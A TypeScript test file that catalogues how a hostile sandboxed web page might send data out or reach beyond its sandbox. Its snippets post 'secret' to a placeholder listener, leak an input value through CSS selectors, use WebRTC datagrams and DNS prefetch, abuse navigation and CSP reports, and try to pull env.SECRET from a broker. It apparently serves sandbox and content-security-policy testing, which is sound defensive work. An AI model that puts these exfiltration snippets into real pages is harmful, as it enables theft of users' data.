/**
 * Attempts of a hostile page to send something out, or to get at what is not its own. Each is code that runs after a real
 * click in the page, so with all that a gesture allows. It finds
 *   T     an address of its own at the test's listener, with a name that nothing else uses
 *   POLICY   that of the undefended page, which says where to report; BLOCKED: an address of its own that it forbids
 *   UDP   a port of its own at the test's datagram listener
 *   stun(RTCPeerConnection, port), welcomed and ask(call, …args): what several need
 *   won() for what leaves no trace outside
 * How it shows that it worked: a request that arrived or a report that names it (`request`), a name that the browser
 * looked up (`lookup`), a datagram (`datagram`), a call of won() (`won`), or something that the browser did for it
 * (`dialog`, `download`, `popup`; `launch`: another program; `left`: the page around it is gone).
 */
export interface Attempt {
  name: string;
  shows: 'request' | 'lookup' | 'datagram' | 'won' | 'dialog' | 'download' | 'popup' | 'launch' | 'left';
  /** It leaves the page, or stops it: in a tab of its own. */
  alone?: true;
  /** Chromium 156 ends the process of the page, which others may share, rather than let it: in a browser of its own. */
  crashes?: true;
  /** It uses up the click, which others need: it runs in the tab that otherwise only listens. */
  spends?: true;
  /** Chromium supports it in the page of a tab but in no frame, so the control runs there. */
  atTop?: true;
  code: string;
}

const element = (tag: string, props: string, into = 'document.body') =>
  `const e = Object.assign(document.createElement('${tag}'), ${props}); ${into}.append(e);`;
const markup = (html: string) =>
  `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)}.replaceAll('%T', T));`;
const style = (css: string) =>
  element('style', `{ textContent: ${JSON.stringify(css)}.replaceAll('%T', T) }`, 'document.head');
const link = (rel: string, more = '') =>
  element('link', `{ rel: '${rel}', ${more} href: T }`, 'document.head');
const blob = (text: string, type: string) => `URL.createObjectURL(new Blob([${text}], { type: '${type}' }))`;
const worker = (code: string, options = '') => `new Worker(${blob(code, 'text/javascript')}${options});`;
const inFrame = (code: string) => element('iframe', `{ srcdoc: '<script>' + ${code} + '</' + 'script>' }`);
/** `stun` is defined in the page; a frame gets its text. */
const stunText = "'(' + stun + ')(RTCPeerConnection, ' + UDP + ')'";

const request = (name: string, code: string): Attempt => ({ name, shows: 'request', code });
const won = (name: string, code: string): Attempt => ({ name, shows: 'won', code });
const leaves = (name: string, code: string): Attempt => ({ name, shows: 'request', alone: true, code });
const atTop = (name: string, code: string): Attempt => ({ name, shows: 'request', atTop: true, code });

const REPORTING = `'<meta http-equiv="Content-Security-Policy" content="' + POLICY + '">'`;
const reporting = (head: string) => `${head}.insertAdjacentHTML('beforeend', ${REPORTING});`;
const speculation = (what: string) =>
  element(
    'script',
    `{ type: 'speculationrules', textContent: JSON.stringify({ ${what}: [{ urls: [T], eagerness: 'immediate' }] }) }`,
  );
/** Browsers are about to remove XSLT. Without it, its result is made by hand. */
const XSLT = `
  const sheet = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><img src="' + T + '"/></xsl:template></xsl:stylesheet>';
  if (!globalThis.XSLTProcessor) { new Image().src = T; return; }
  const x = new XSLTProcessor();
  x.importStylesheet(new DOMParser().parseFromString(sheet, 'text/xml'));
  document.body.append(x.transformToFragment(new DOMParser().parseFromString('<a/>', 'text/xml'), document));`;

/** Requests of the page itself. */
const REQUESTS: Attempt[] = [
  request('fetch', `fetch(T);`),
  request('fetch-post', `fetch(T, { method: 'POST', mode: 'no-cors', body: 'secret' });`),
  request('fetch-later', `fetchLater(T, { activateAfter: 0 });`),
  request('xhr', `const x = new XMLHttpRequest(); x.open('GET', T); x.send();`),
  request('beacon', `navigator.sendBeacon(T, 'secret');`),
  request('websocket', `new WebSocket(T.replace('http', 'ws'));`),
  request('event-source', `new EventSource(T);`),
  request('image', `new Image().src = T;`),
  request('image-srcset', markup('<img srcset="%T 1x">')),
  request('picture', markup('<picture><source srcset="%T"><img></picture>')),
  request('input-image', markup('<input type="image" src="%T">')),
  request('body-background', markup('<table background="%T"><tr><td>x</table>')),
  request('css-url', markup('<p style="background: url(%T)">x</p>')),
  request('css-image-set', markup(`<p style="background: image-set('%T' 1x)">x</p>`)),
  request('css-import', style('@import url(%T);')),
  request('css-font', style('@font-face { font-family: leak; src: url(%T) } body { font-family: leak }')),
  request(
    'css-attribute',
    `${markup('<input id="pin" value="1234">')} ${style('#pin[value^="1"] { background: url(%T) }')}`,
  ),
  request('css-cursor-content', style('body::after { content: url(%T) }')),
  request('stylesheet', link('stylesheet')),
  request('prefetch', link('prefetch')),
  request('preload', link('preload', `as: 'image',`)),
  request('modulepreload', link('modulepreload')),
  request('script', element('script', '{ src: T }')),
  request('module', element('script', `{ type: 'module', textContent: 'import "' + T + '"' }`)),
  request('dynamic-import', `import(T).catch(() => {});`),
  request('audio-worklet', `new AudioContext().audioWorklet.addModule(T).catch(() => {});`),
  request('frame', element('iframe', '{ src: T }')),
  request('object', element('object', '{ data: T }')),
  request('embed', element('embed', '{ src: T }')),
  request('video', element('video', `{ src: T, preload: 'auto' }`)),
  request('video-poster', element('video', '{ poster: T }')),
  request('audio', element('audio', `{ src: T, preload: 'auto' }`)),
  request('svg-image', markup('<svg><image href="%T"/></svg>')),
  request(
    'svg-filter-image',
    markup(
      '<svg><filter id="f"><feImage href="%T"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    ),
  ),
  request('ping', `${element('a', `{ href: '#x', ping: T }`)} e.click();`),
  request('worker-fetch', worker(`'fetch("' + T + '", { mode: "no-cors" })'`)),
  request('worker-import-scripts', worker(`'importScripts("' + T + '")'`)),
  request('worker-module', worker(`'import "' + T + '"'`, `, { type: 'module' }`)),
  request('worker-websocket', worker(`'new WebSocket("' + T.replace('http', 'ws') + '")'`)),
  request(
    'worker-data-url',
    `new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + T + '", { mode: "no-cors" })'));`,
  ),
  request(
    'worker-in-worker',
    `const inner = 'fetch("' + T + '", { mode: "no-cors" })';
     const outer = 'new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + '], { type: "text/javascript" })))';
     new Worker(URL.createObjectURL(new Blob([outer], { type: 'text/javascript' })));`,
  ),
  request(
    'shared-worker',
    `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + T + '", { mode: "no-cors" })'], { type: 'text/javascript' })));`,
  ),
  request('srcdoc-fetch', inFrame(`'fetch("' + T + '", { mode: "no-cors" })'`)),
  request('srcdoc-navigates', inFrame(`'location.href = "' + T + '"'`)),
  request(
    'script-url-frame',
    element('iframe', `{ src: 'javascript:fetch("' + T + '", { mode: "no-cors" })' }`),
  ),
  request(
    'blank-frame-image',
    `${element('iframe', '{}')} e.contentDocument.body.innerHTML = '<img src="' + T + '">';`,
  ),
  request('blank-frame-navigates', `${element('iframe', '{}')} e.contentWindow.location = T;`),
  request('data-url-frame', element('iframe', `{ src: 'data:text/html,<img src="' + T + '">' }`)),
  request('blob-frame', element('iframe', `{ src: ${blob(`'<img src="' + T + '">'`, 'text/html')} }`)),
  request(
    'xml-stylesheet',
    element(
      'iframe',
      `{ src: ${blob(`'<?xml-stylesheet type="text/css" href="' + T + '"?><a/>'`, 'text/xml')} }`,
    ),
  ),
  request('xslt', XSLT),
  request('css-cursor', markup('<p style="cursor: url(%T), auto">x</p>')),
  request('css-mask', markup('<p style="mask: url(%T#m)">x</p>')),
  request('css-border-image', markup('<p style="border: 1px solid; border-image: url(%T) 1">x</p>')),
  request('css-list-style', markup('<ul style="list-style: url(%T)"><li>x</ul>')),
  request('font-face', `new FontFace('leak', 'url(' + T + ')').load();`),
  request(
    'shadow-style',
    `${element('p', '{}')} e.attachShadow({ mode: 'open' }).innerHTML = '<p style="background: url(' + T + ')">x</p>';`,
  ),
  request('preload-srcset', element('link', `{ rel: 'preload', as: 'image', imageSrcset: T + ' 1x' }`)),
  request(
    'svg-foreign-object',
    markup('<svg><foreignObject width="9" height="9"><img src="%T"></foreignObject></svg>'),
  ),
  request(
    'svg-animated-image',
    markup('<svg><image width="9" height="9"><set attributeName="href" to="%T" begin="0s"/></image></svg>'),
  ),
  request(
    'svg-script',
    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'script');
     s.setAttribute('href', T); document.body.append(s);`,
  ),
  request('paint-worklet', `CSS.paintWorklet.addModule(T).catch(() => {});`),
  request(
    'form-into-frame',
    `${element('iframe', `{ name: 'into' }`)} ${markup('<form action="%T" target="into" method="post">')} document.querySelector('[target=into]').submit();`,
  ),
  request(
    'form-srcdoc',
    element(
      'iframe',
      `{ srcdoc: '<form action="' + T + '"></form><script>document.forms[0].submit()</' + 'script>' }`,
    ),
  ),
  request(
    'form-script-url',
    `${element('form', `{ action: 'javascript:fetch("' + T + '", { mode: "no-cors" })' }`)} e.submit();`,
  ),
];

/** Requests that the browser itself makes on behalf of a page. */
const BY_THE_BROWSER: Attempt[] = [
  request('notification-icon', `new Notification('x', { icon: T });`),
  request(
    'payment-manifest',
    `new PaymentRequest([{ supportedMethods: T }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment();`,
  ),
  request(
    'identity-provider',
    `navigator.credentials.get({ identity: { providers: [{ configURL: T, clientId: '1' }] } });`,
  ),
  atTop('manifest', link('manifest')),
  atTop('icon', link('icon')),
  atTop('speculation-prefetch', speculation('prefetch')),
  atTop('speculation-prerender', speculation('prerender')),
];

/**
 * Reports of violations contain the address that was refused. A page cannot choose their destination, because `<meta>`
 * cannot set it. So the control is a page whose headers do, for itself and for the documents that it creates.
 */
const REPORTS: Attempt[] = [
  request('report-uri', `${reporting('document.head')} new Image().src = BLOCKED;`),
  request('report-srcdoc', element('iframe', `{ srcdoc: ${REPORTING} + '<img src="' + BLOCKED + '">' }`)),
  request(
    'report-blob-frame',
    element('iframe', `{ src: ${blob(`${REPORTING} + '<img src="' + BLOCKED + '">'`, 'text/html')} }`),
  ),
  request(
    'report-blank-frame',
    `${element('iframe', '{}')} ${reporting('e.contentDocument.head')}
     e.contentDocument.body.innerHTML = '<img src="' + BLOCKED + '">';`,
  ),
  request(
    'frame-csp-attribute',
    `const e = document.createElement('iframe');
     e.setAttribute('csp', "img-src 'none'"); e.src = T; document.body.append(e);`,
  ),
  request(
    'violation-event',
    `document.addEventListener('securitypolicyviolation', () => fetch(T, { mode: 'no-cors' }), { once: true });
     new Image().src = BLOCKED;`,
  ),
  request(
    'reporting-observer',
    `new ReportingObserver(() => fetch(T, { mode: 'no-cors' })).observe(); new Image().src = BLOCKED;`,
  ),
];

/** Ways to send data without a request that a content security policy covers. */
const CONNECTIONS: Attempt[] = [
  { name: 'preconnect', shows: 'lookup', code: link('preconnect') },
  { name: 'dns-prefetch', shows: 'lookup', code: link('dns-prefetch') },
  { name: 'webrtc', shows: 'datagram', code: 'stun(RTCPeerConnection, UDP);' },
  { name: 'webrtc-srcdoc', shows: 'datagram', alone: true, crashes: true, code: inFrame(stunText) },
  {
    name: 'webrtc-blank-frame',
    shows: 'datagram',
    alone: true,
    crashes: true,
    code: `${element('iframe', '{}')} stun(e.contentWindow.RTCPeerConnection, UDP);`,
  },
  {
    name: 'webrtc-script-url',
    shows: 'datagram',
    alone: true,
    crashes: true,
    code: element('iframe', `{ src: 'javascript:' + ${stunText} }`),
  },
  { name: 'web-transport', shows: 'datagram', code: `new WebTransport('https://127.0.0.1:' + UDP + '/');` },
  {
    name: 'worker-web-transport',
    shows: 'datagram',
    code: worker(`'new WebTransport("https://127.0.0.1:' + UDP + '/")'`),
  },
];

/** Ways to navigate away: the address that the frame goes to can carry any data. */
const NAVIGATIONS: Attempt[] = [
  leaves(
    'base',
    `${element('base', `{ href: new URL('.', T).href }`, 'document.head')} new Image().src = 'base';`,
  ),
  leaves('location', `location.href = T;`),
  leaves('location-replace', `location.replace(T);`),
  leaves('meta-refresh', element('meta', `{ httpEquiv: 'refresh', content: '0;url=' + T }`, 'document.head')),
  leaves('link-click', `${element('a', '{ href: T }')} e.click();`),
  leaves('link-new-tab', `${element('a', `{ href: T, target: '_blank', rel: 'noopener' }`)} e.click();`),
  leaves('link-download', `${element('a', `{ href: T, download: 'x' }`)} e.click();`),
  leaves('form-get', `${element('form', '{ action: T }')} e.submit();`),
  leaves('form-post', `${element('form', `{ action: T, method: 'post' }`)} e.submit();`),
  leaves('form-new-tab', `${element('form', `{ action: T, target: '_blank' }`)} e.submit();`),
  leaves('form-top', `${element('form', `{ action: T, target: '_top' }`)} e.submit();`),
  leaves('form-request-submit', `${element('form', `{ action: T, method: 'post' }`)} e.requestSubmit();`),
  leaves(
    'form-action-button',
    `${markup('<form><button formaction="%T"></form>')} document.forms[0].elements[0].click();`,
  ),
  leaves('window-open', `open(T);`),
  leaves('window-open-noopener', `open(T, '_blank', 'noopener');`),
  leaves('window-open-top', `open(T, '_top');`),
  leaves('top-location', `top.location.href = T;`),
  leaves('parent-location', `parent.location.replace(T);`),
  leaves(
    'blob-document',
    `location.href = URL.createObjectURL(new Blob(['<img src="' + T + '">'], { type: 'text/html' }));`,
  ),
  leaves('data-document', `location.href = 'data:text/html,<img src="' + T + '">';`),
  leaves('navigation-api', `navigation.navigate(T);`),
  leaves('script-url', `location.href = 'javascript:fetch("' + T + '", { mode: "no-cors" })';`),
  leaves('document-write', `document.open(); document.write('<img src="' + T + '">'); document.close();`),
  leaves(
    'keepalive-on-leave',
    `addEventListener('pagehide', () => { fetch(T, { mode: 'no-cors', keepalive: true }); }); location.reload();`,
  ),
  leaves(
    'beacon-on-leave',
    `addEventListener('pagehide', () => { navigator.sendBeacon(T); }); location.reload();`,
  ),
];

/** What does not belong to the page: the page around it, data of others, what only a person may allow. */
const REACHES: Attempt[] = [
  won('parent-document', `if (parent.document.body) won();`),
  won('read-parent-location', `if (parent.location.href) won();`),
  won('frame-element', `if (frameElement) { frameElement.removeAttribute('sandbox'); won(); }`),
  won('parent-hash', `parent.location.hash = 'taken'; if (parent.location.hash === '#taken') won();`),
  won('cookie', `document.cookie = 'a=1'; if (document.cookie.includes('a=1')) won();`),
  won('local-storage', `localStorage.setItem('a', '1'); won();`),
  won('session-storage', `sessionStorage.setItem('a', '1'); won();`),
  won('indexed-db', `indexedDB.open('a').onsuccess = won;`),
  won('caches', `caches.open('a').then(won);`),
  won('private-files', `navigator.storage.getDirectory().then(won);`),
  won('cookie-store', `cookieStore.set('b', '1').then(won);`),
  won('file-system', `webkitRequestFileSystem(0, 1, won);`),
  won('storage-estimate', `navigator.storage.estimate().then(won);`),
  won('storage-access', `document.requestStorageAccess().then(won);`),
  won('locks', `navigator.locks.request('x', won);`),
  won('service-worker', `navigator.serviceWorker.register('/sw.js').then(won);`),
  won(
    'document-domain',
    `const above = document.domain.split('.').slice(1).join('.'); document.domain = above; if (above && document.domain === above) won();`,
  ),
  won('broadcast', `new BroadcastChannel('woof').postMessage('hello');`),
  won('clipboard-write', `navigator.clipboard.writeText('x').then(won);`),
  won('clipboard-read', `navigator.clipboard.readText().then(won);`),
  won('clipboard-command', `if (document.execCommand('copy')) won();`),
  won('pointer-lock', `document.body.requestPointerLock().then(won);`),
  won('full-screen', `document.documentElement.requestFullscreen().then(won);`),
  won('print', `addEventListener('beforeprint', won); print();`),
  won('geolocation', `navigator.geolocation.getCurrentPosition(won);`),
  won('camera', `navigator.mediaDevices.getUserMedia({ video: true }).then(won);`),
  won('wake-lock', `navigator.wakeLock.request('screen').then(won);`),
  {
    name: 'file-picker',
    shows: 'won',
    spends: true,
    // If it were shown, the test's browser would close it.
    code: `showOpenFilePicker().catch(({ name }) => { if (name === 'AbortError') won(); });`,
  },
  won('broker-env', `welcomed.then(({ welcome }) => { if (welcome.env.SECRET) won(); });`),
  won('broker-persist', `ask('persist.set', 'a', '1').then(({ ok }) => { if (ok) won(); });`),
  won('broker-clipboard', `ask('clipboard.write', 'x').then(({ ok }) => { if (ok) won(); });`),
  won('broker-unknown', `ask('constructor').then(({ ok }) => { if (ok) won(); });`),
  won(
    'second-welcome',
    `welcomed.then(() => {
      addEventListener('message', ({ data }) => { if (data.type === 'wb:welcome') won(); });
      parent.postMessage({ type: 'wb:hello', version: 1 }, '*');
    });`,
  ),
  won(
    'boastful-hello',
    `addEventListener('message', ({ data }) => { if (data.type === 'wb:welcome' && data.env.SECRET) won(); });
     parent.postMessage({ type: 'wb:hello', version: 1, can: { env: true }, granted: ['env'], permissions: ['env'] }, '*');`,
  ),
];

const SEEN_BY_THE_BROWSER: Attempt[] = [
  { name: 'alert', shows: 'dialog', alone: true, code: `alert('x');` },
  {
    name: 'before-unload',
    shows: 'dialog',
    alone: true,
    code: `onbeforeunload = () => 'stay'; location.reload();`,
  },
  {
    name: 'blob-download',
    shows: 'download',
    alone: true,
    code: `${element('a', `{ href: URL.createObjectURL(new Blob(['x'])), download: 'x.txt' }`)} e.click();`,
  },
  { name: 'blank-popup', shows: 'popup', alone: true, code: `open('about:blank');` },
  { name: 'mail', shows: 'launch', alone: true, code: `location.href = 'mailto:a@b.example?body=secret';` },
  { name: 'history-back', shows: 'left', alone: true, code: `history.back();` },
];

export const ATTEMPTS = [
  ...REQUESTS,
  ...BY_THE_BROWSER,
  ...REPORTS,
  ...CONNECTIONS,
  ...NAVIGATIONS,
  ...REACHES,
  ...SEEN_BY_THE_BROWSER,
];
